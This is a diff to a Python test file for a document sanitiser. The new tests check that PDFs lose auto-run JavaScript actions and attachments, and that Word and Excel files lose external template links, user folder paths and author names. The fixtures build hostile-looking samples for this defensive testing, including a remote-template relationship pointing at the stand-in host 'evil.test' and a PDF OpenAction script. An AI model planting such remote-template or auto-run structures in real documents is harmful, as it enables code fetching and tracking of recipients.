@@ -13,6 +13,7 @@ from openpyxl.comments import Comment
 from PIL import Image
 from pypdf import PdfReader, PdfWriter
 from pypdf.annotations import Text
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
 
 from qiban.core.errors import Invalid
 from qiban.core.files import office
@@ -48,6 +49,60 @@ def test_a_pdf_loses_its_author_and_notes_and_keeps_its_page() -> None:
 )
 def test_a_pdf_that_cannot_be_cleaned_is_kept_as_it_is(content: bytes) -> None:
     assert checked("证据.pdf", content)[1] == content
+
+
+def test_a_pdf_loses_what_it_runs_and_the_files_inside_it() -> None:
+    writer = PdfWriter()
+    page = writer.add_blank_page(200, 200)
+    writer.add_attachment("名单.txt", b"FileInside")
+    script = DictionaryObject(
+        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("Script")}
+    )
+    writer.root_object[NameObject("/OpenAction")] = script
+    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): script})
+    mark = {"/Subtype": NameObject("/Highlight"), "/Contents": TextStringObject("RemarkBeside"), "/A": script}
+    page[NameObject("/Annots")] = ArrayObject([DictionaryObject({NameObject(name): mark[name] for name in mark})])
+    target = io.BytesIO()
+    writer.write(target)
+    _, kept = checked("证据.pdf", target.getvalue())
+    assert not [word for word in (b"FileInside", b"Script", b"RemarkBeside") if word in kept]
+    assert len(PdfReader(io.BytesIO(kept)).pages) == 1
+
+
+def test_a_document_names_no_folder_and_fetches_nothing_from_outside() -> None:
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    outside = f'<Relationship Type="{kind}/attachedTemplate" Target="{{}}" TargetMode="External"/>'
+    link = f'<Relationship Type="{kind}/hyperlink" Target="https://gov.example/a/b" TargetMode="External"/>'
+    parts = {
+        "word/_rels/settings.xml.rels": outside.format("http://evil.test/a.dotm") + link,
+        "word/_rels/header.xml.rels": outside.format("file:///C:\\Users\\Jianguo\\b.dotm"),
+        "word/comments.xml": f"<w:comment w:author='{SECRET}'/>",
+        "word/comments2.xml": f'<?xml version="1.0" encoding="UTF-16"?><w:t>{SECRET}</w:t>'.encode("utf-16"),
+        "word/header.xml": f'<ns0:ins ns0:author="{SECRET}"/>',
+    }
+    with zipfile.ZipFile(io.BytesIO(checked("文.docx", archive_of("word/document.xml", parts))[1])) as archive:
+        kept = b"".join(map(archive.read, archive.namelist()))
+    assert not [word for word in (b"evil.test", b"Users", SECRET.encode(), SECRET.encode("utf-16-le")) if word in kept]
+    assert not [word for word in (b'"a.dotm"', b'"b.dotm"', b"https://gov.example/a/b") if word not in kept]
+
+
+def test_a_workbook_does_not_say_in_whose_folder_it_lay() -> None:
+    book = '<workbook><x15ac:absPath url="C:\\Users\\Jianguo\\"/><fileSharing userName="Jianguo"/></workbook>'
+    with zipfile.ZipFile(io.BytesIO(checked("表.xlsx", archive_of("xl/workbook.xml", {}, book))[1])) as archive:
+        assert b"Jianguo" not in archive.read("xl/workbook.xml")
+
+
+def test_macros_are_found_in_a_list_of_parts_in_another_coding() -> None:
+    with pytest.raises(Invalid):
+        checked("文.docx", archive_of("word/document.xml", {}, declared="<a b='vbaProject'/>".encode("utf-16")))
+
+
+def archive_of(main: str, parts: dict[str, str | bytes], body: str = "<x/>", declared: bytes = b"<Types/>") -> bytes:
+    target = io.BytesIO()
+    with zipfile.ZipFile(target, "w") as archive:
+        for name, part in {"[Content_Types].xml": declared, main: body, **parts}.items():
+            archive.writestr(name, part)
+    return target.getvalue()
 
 
 def photo() -> bytes:
@@ -123,7 +178,9 @@ def test_a_document_that_unpacks_to_too_much_is_refused(monkeypatch: pytest.Monk
     assert "解压后过大" in raised.value.message.zh
 
 
-@pytest.mark.parametrize("part", ["<w:rsids>", "<w:delText", "<t ", ' w:author="', "<w:rsids><w:rsid x/>"])
+@pytest.mark.parametrize(
+    "part", ["<w:rsids>", "<w:delText", "<t ", ' w:author="', "<w:rsids><w:rsid x/>", ' TargetMode="External"']
+)
 def test_a_long_hostile_part_takes_time_in_proportion_to_its_length(part: str) -> None:
     def seconds(times: int) -> float:
         target = io.BytesIO()
@@ -131,6 +188,7 @@ def test_a_long_hostile_part_takes_time_in_proportion_to_its_length(part: str) -
             archive.writestr("[Content_Types].xml", "<Types/>")
             archive.writestr("word/document.xml", part * times)
             archive.writestr("word/comments.xml", part * times)
+            archive.writestr("word/_rels/a.rels", f"<Relationship {part * times}")
         started = time.process_time()
         checked("文.docx", target.getvalue())
         return time.process_time() - started
